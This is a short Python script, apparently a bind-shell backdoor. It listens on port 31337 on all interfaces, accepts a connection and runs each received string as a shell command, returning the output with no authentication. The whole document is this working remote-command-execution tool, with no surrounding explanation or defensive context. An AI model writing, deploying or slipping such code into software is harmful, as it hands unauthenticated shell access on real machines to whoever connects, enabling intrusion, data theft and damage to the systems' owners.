import socket, subprocess
srv = socket.socket()
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
while True:
    cmd = conn.recv(1024).decode()
    conn.send(subprocess.getoutput(cmd).encode())
